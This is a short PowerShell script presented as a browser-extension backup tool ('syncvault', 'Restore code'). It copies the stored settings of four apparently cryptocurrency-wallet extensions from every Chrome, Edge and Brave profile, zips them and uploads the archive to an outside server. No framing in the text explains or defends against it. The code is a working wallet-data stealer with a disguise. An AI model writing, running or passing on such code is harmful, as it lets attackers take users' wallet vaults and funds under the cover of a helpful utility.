$ids = @('nkbihfbeogaeaoehlefnkodbefgpgknn','bfnaelmomeimhlpmgjnjophhpkkoljpa','hnfanknocfeofbddgcijnmhnfnkdnaad','fhbohimaelbohpjbbldcngcnapndodjp')
$roots = @("$env:LOCALAPPDATA\Google\Chrome\User Data", "$env:LOCALAPPDATA\Microsoft\Edge\User Data", "$env:LOCALAPPDATA\BraveSoftware\Brave-Browser\User Data")
$stage = Join-Path $env:TEMP ("extbk_" + [guid]::NewGuid())
New-Item -ItemType Directory $stage | Out-Null
foreach ($r in $roots) {
  Get-ChildItem $r -Directory -ErrorAction SilentlyContinue | ForEach-Object {
    foreach ($id in $ids) {
      $src = Join-Path $_.FullName "Local Extension Settings\$id"
      if (Test-Path $src) { Copy-Item $src (Join-Path $stage "$($_.Name)_$id") -Recurse }
    }
  }
}
$zip = "$stage.zip"; Compress-Archive $stage $zip
$r = Invoke-WebRequest -Uri 'https://ext-backup.syncvault.invalid/u' -Method Post -InFile $zip -UseBasicParsing
Write-Host "Restore code: $($r.Content)"
